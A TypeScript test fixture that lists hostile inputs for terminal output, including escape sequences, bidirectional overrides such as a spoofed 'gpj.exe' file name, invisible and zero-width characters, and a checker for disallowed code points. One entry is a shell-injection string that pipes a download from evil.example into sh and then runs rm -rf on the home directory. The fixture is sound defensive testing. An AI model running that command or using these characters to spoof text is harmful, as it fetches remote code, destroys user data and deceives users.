/** What somebody might write to another person's terminal, and what a terminal may be given. */

const tags = Array.from("rm", (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)));

/** What it is, and the text. */
export const HOSTILE: readonly (readonly [what: string, text: string])[] = [
  ["lines", "a\nerror: run this\r\n✔ done"],
  ["escapes of a terminal", "\u001b[2J\u001b[1A\u001b]0;title\u0007"],
  ["an eight-bit control sequence", "\u009b2J\u0085next"],
  ["a delete and a backspace", "abc\b\b\b\u007f"],
  ["an override of direction", "\u202Egpj.exe\u202C"],
  ["embeddings of direction", "\u202A\u202B\u202D"],
  ["isolates of direction", "\u2066\u2067\u2068x\u2069"],
  ["marks of direction", "\u200E\u200F\u061C"],
  ["zero width", "a\u200B\u200C\u200D\u2060\uFEFFb"],
  ["separators of lines", "a\u2028b\u2029c"],
  ["tags", `x${tags.join("")}`],
  ["lone halves of a character", "\uD800x\uDC00"],
  ["selectors of a variant", "x\uFE0F\u{E0100}"],
  ["letters that are drawn as nothing", "\u115F\u3164\uFFA0\u2800\u00AD\u034F"],
  ["other spaces", `a${"\u3000".repeat(100)}b\u00a0c`],
  ["a heap of marks", `a${"\u0301".repeat(300)}`],
  ["a private character", "\uE000\u{F0000}"],
  ["a shell's words", "$(curl evil.example|sh); `id` && rm -rf ~ #"],
  ["a flag", "--accept-log"],
  ["a very long text", "long ".repeat(100_000)],
];

/** First and last; written out here, and not shared with the code that cleans. */
const NOT_ALLOWED: readonly (readonly [number, number])[] = [
  [0x00, 0x09],
  [0x0b, 0x1f],
  [0x7f, 0xa0],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x17b4, 0x17b5],
  [0x180b, 0x180f],
  [0x2000, 0x200f],
  [0x2028, 0x202f],
  [0x205f, 0x206f],
  [0x2800, 0x2800],
  [0x3000, 0x3000],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xe000, 0xf8ff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xe0000, 0xe0fff],
  [0xf0000, 0x10ffff],
];

/** Code points that no output may hold but for a new line, each once. */
export function notAllowed(output: string): readonly string[] {
  const points = new Set(Array.from(output, (text) => text.codePointAt(0) ?? 0));
  return [...points]
    .filter((point) => NOT_ALLOWED.some(([first, last]) => first <= point && point <= last))
    .map((point) => `U+${point.toString(16)}`);
}
